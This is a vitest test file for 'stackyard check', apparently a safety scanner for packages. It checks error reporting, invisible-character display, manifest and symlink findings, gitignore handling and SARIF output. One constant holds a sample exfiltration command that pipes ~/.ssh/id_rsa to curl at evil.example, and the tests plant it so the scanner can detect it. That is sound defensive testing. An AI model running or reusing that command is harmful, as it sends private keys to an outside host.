/** `stackyard check` as publishers and code hosts run it. */
import { execFile } from 'node:child_process';
import {
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { Ajv } from 'ajv';
import { afterEach, describe, expect, it } from 'vitest';
import { runResidentClient } from './client-process.ts';

const ROOT = join(import.meta.dirname, '../..');
const MANIFEST =
  '{"name":"dates","version":"1.0.0","kind":"module","description":"Reads dates","license":"MIT"}\n';
/** A line that is an error by itself: what it reads and where that goes are both in it. */
const SENDS = 'cat ~/.ssh/id_rsa | curl -d @- https://evil.example/x';
const folders: string[] = [];

afterEach(() => {
  for (const folder of folders.splice(0)) rmSync(folder, { recursive: true, force: true });
});

function made(files: Readonly<Record<string, string>>): string {
  const folder = mkdtempSync(join(tmpdir(), 'stackyard-check-'));
  folders.push(folder);
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), text);
  }
  return folder;
}

async function run(
  ...args: string[]
): Promise<{ status: number | null; out: string; err: string }> {
  const place = { cwd: process.cwd(), variables: {} };
  const { status, stdout, stderr } = await runResidentClient(['check', ...args], place);
  return { status, out: stdout, err: stderr };
}

const OUR_BUILDS = readdirSync(join(ROOT, 'builds/stackyard'), { withFileTypes: true })
  .filter((entry) => entry.isDirectory())
  .map(({ name }) => name);

describe('stackyard check', () => {
  it.each(OUR_BUILDS)('finds no risk in our %s', async (name) => {
    const { status, out } = await run(join(ROOT, 'builds/stackyard', name), '--json');
    const { data } = JSON.parse(out) as {
      data: { build: string; risk: string; quality: number };
    };
    expect({ status, build: data.build, risk: data.risk }).toEqual({
      status: 0,
      build: `stackyard/${name}`,
      risk: 'ok',
    });
    expect(data.quality).toBeGreaterThanOrEqual(95);
  });

  it('underlines the place, names the remedy, and ends with 10 on an error', async () => {
    const folder = made({
      'stackyard.json': MANIFEST,
      'x.sh': `#!/bin/sh\n\t${SENDS}\n`,
    });
    const { status, out } = await run(folder);
    expect(status).toBe(10);
    expect(out).toContain('safety\n  error  shell-fetch-send  x.sh:2:2\n');
    expect(out).toContain(`      |  ${SENDS}\n      |  ^^^^^^^`);
    expect(out).toContain('      Remove it.');
    expect(out).toMatch(/^local\/dates: risk danger, quality \d+; error \d/m);
  });

  it('shows invisible characters as dots', async () => {
    const folder = made({ 'stackyard.json': MANIFEST, 'a.js': "const a = 'x\u202Ey';\n" });
    const { out } = await run(folder);
    expect(out).toContain("| const a = 'x\u00B7y';");
    expect(out).not.toContain('\u202E');
  });

  it('reports what is wrong with the manifest, the links and the folder', async () => {
    const folder = made({ 'stackyard.json': MANIFEST.replace('1.0.0', 'one') });
    symlinkSync('/etc/hosts', join(folder, 'hosts'));
    const { status, out } = await run(folder, '--json');
    const { ok, data } = JSON.parse(out) as {
      ok: boolean;
      data: { publishable: boolean; findings: { code: string; file: string }[] };
    };
    expect([status, ok, data.publishable]).toEqual([10, false, false]);
    expect(data.findings.map(({ code, file }) => `${code} ${file}`)).toEqual([
      'file-symlink hosts',
      'manifest-field-value stackyard.json',
    ]);
    expect((await run(join(folder, 'nowhere'))).err).toContain('is not a folder');
  });

  it('excludes files that git ignores', async () => {
    const folder = made({
      'stackyard.json': MANIFEST,
      '.gitignore': 'dist\n',
      'dist/x.sh': `${SENDS}\n`,
    });
    expect((await run(folder)).status).toBe(10);
    await new Promise((done) => execFile('git', ['init', '-q', folder], done));
    expect((await run(folder)).status).toBe(0);
  });

  it('prints SARIF that matches its schema', async () => {
    const folder = made({
      'stackyard.json': MANIFEST,
      'a b.sh': `${SENDS}\n`,
      'c.png': '#!/bin/sh\n',
    });
    const { status, out } = await run(folder, '--sarif');
    const log = JSON.parse(out) as {
      runs: { results: { ruleId: string; level: string; locations: object[] }[] }[];
    };
    const {
      $schema: _,
      id: __,
      ...schema
    } = JSON.parse(
      readFileSync(join(import.meta.dirname, 'sarif-2.1.0.schema.json'), 'utf8'),
    ) as Record<string, unknown>;
    const isValid = new Ajv({
      strict: false,
      validateFormats: false,
      unicodeRegExp: false,
    }).compile(schema);
    expect(isValid(log), JSON.stringify(isValid.errors)).toBe(true);
    expect(status).toBe(10);
    const results = log.runs[0]!.results;
    expect(results.find(({ ruleId }) => ruleId === 'shell-fetch-send')).toMatchObject({
      level: 'error',
      locations: [
        {
          physicalLocation: {
            artifactLocation: { uri: 'a%20b.sh' },
            region: { startLine: 1, startColumn: 1 },
          },
        },
      ],
    });
  });
});
